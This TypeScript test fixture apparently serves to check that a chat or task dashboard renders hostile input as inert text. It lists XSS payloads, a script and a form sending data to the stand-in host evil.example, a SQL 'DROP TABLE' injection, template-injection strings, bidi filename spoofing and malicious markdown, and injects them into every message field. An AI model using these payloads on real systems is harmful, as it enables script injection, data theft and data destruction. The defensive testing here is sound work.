import type { Json } from '../harness/wait.ts'

/** A host that no page may request. */
export const EVIL = 'https://evil.example'

/** Texts with a special meaning to a page, a script, a terminal, a template or a database. */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  image: `<img src="${EVIL}/x" onerror="alert(1)">`,
  script: `<script>alert(2);fetch('${EVIL}')</script>`,
  attribute: `"><svg/onload=alert(3)>' onmouseover='alert(3)`,
  address: 'javascript:alert(4)',
  frame: `<iframe srcdoc="<script>parent.alert(5)</script>"></iframe><object data="${EVIL}"></object>`,
  style: '</script><style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>',
  form: `<form action="${EVIL}"><input name=token autofocus onfocus=alert(6)></form>`,
  toggle: '<details open ontoggle=alert(7)><summary>x</summary></details>',
  mutation: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(8)&gt;">',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it must stay text
  template: '{{constructor.constructor("alert(9)")()}} ${alert(9)} <%= 7*7 %>',
  sql: `'); DROP TABLE message; -- "`,
  prototype: '__proto__',
  constructor: 'constructor',
  ansi: '\u001b[2J\u001b[31mred\u001b]0;title\u0007\u009b1m',
  separators: 'a\u2028b\u2029c\u0085d\re\u0000f',
  bidi: 'invoice\u202egnp.exe\u2066\u200f',
  unseen: 'ad\u200bmin\ufeff\u00ad\u{e0041}\u{e0042}\u2060',
  entity: '&lt;script&gt;alert(10)&lt;/script&gt;&#60;img src=x onerror=alert(10)&#62;',
  surrogate: 'half \ud83d of a pair',
}

/** Markdown that must stay inactive, and what can be read of it. */
export const HOSTILE_MARKDOWN: Readonly<Record<string, readonly [text: string, reads: RegExp]>> = {
  link: ['[click](javascript:alert(1))', /click javascript:alert\(1\)/],
  image: [`![picture](${EVIL}/p.png "t")`, /picture https:\/\/evil\.example\/p\.png/],
  autolink: [`<javascript:alert(2)> ${EVIL}/beacon`, /https:\/\/evil\.example\/beacon/],
  reference: ['[ref]\n\n[ref]: javascript:alert(3)', /ref/],
  data: ['[d](data:text/html;base64,PHNjcmlwdD4)', /data:text\/html/],
  title: ['[t](x "\\" onclick=alert(4) ")', /t x/],
  html: [
    `<img src=x onerror=alert(5)> **bold** <b onclick=alert(5)>b</b>`,
    /<img src=x onerror=alert\(5\)> bold <b onclick/,
  ],
  fence: ['```html\n<script>alert(6)</script>\n```', /<script>alert\(6\)<\/script>/],
  language: ['```"><img src=x onerror=alert(7)>\ncode\n```', /code/],
  heading: ['# <svg onload=alert(8)>', /<svg onload=alert\(8\)>/],
  table: ['|a|b|\n|-|-|\n|<img src=x onerror=alert(9)>|[x](javascript:alert(9))|', /<img src=x onerror=alert\(9\)>/],
  mutation: [HOSTILE_TEXTS.mutation!, /<mglyph>/],
  bidi: ['**safe\u202egnp.exe**', /safe⟨U\+202E⟩gnp\.exe/],
  nested: ['>'.repeat(2_900), />{2900}/],
  marks: ['_a'.repeat(1_400), /(_a){1400}/],
}

/** Messages that contain a text in each displayed field and in field names. */
export const hostileMessages = (text: string): Json[] => {
  const ids = { task_id: text, action_id: text, command_id: text, execution_id: text, summary_id: text }
  const fields = (of: string): Json => ({
    ...ids,
    [`${of}_name`]: text,
    [`${of}_type`]: text,
    [`${of}_assignee`]: text,
    [`${of}_status`]: text,
    [text]: text,
    params: { [text]: [text, { [text]: text }] },
  })
  const says = (message_from: string, message_type: string, data: Json): Json => ({
    message_from,
    message_type,
    message_content: { data },
  })
  const orders = { response_text: text, response_type: text }
  return [
    says(text, text, text),
    says(text, text, { text, [text]: text }),
    says(text, text, { [text]: { [text]: [text] } }),
    says('system', 'llm_request', { text }),
    says('_captain', 'llm_response', { ...orders, tasks: [fields('task')] }),
    says('_manager', 'manager_llm_response', { ...orders, actions: [fields('action')] }),
    says('_operator', 'operator_llm_response', { ...orders, commands: [fields('command')] }),
    says('_manager', 'action_created', { text, action_details: fields('action') }),
    says('_operator', 'error_command_creation', { text, detail: text }),
    says('_executor', 'command_result', { ...fields('command'), status: text, result: { [text]: text, list: [text] } }),
    says('_executor', 'command_result', { ...fields('command'), status: text, result: text }),
    says('_expert', 'execution_summary_generated', { ...ids, ai_summary: text }),
    says('_expert', 'event_summary_generated', { event_status: text, event_summary: text, event_suggestion: text }),
    {
      message_from: text,
      message_type: 'user_message',
      sender_type: 'user',
      user_id: text,
      message_content: { type: 'text', text },
    },
    { message_from: 'ai_assistant', message_type: 'chat', sender_type: 'ai', message_content: { content: text } },
    { [text]: text, message_id: `id-${text}`.slice(0, 255).toWellFormed(), created_at: text },
  ]
}
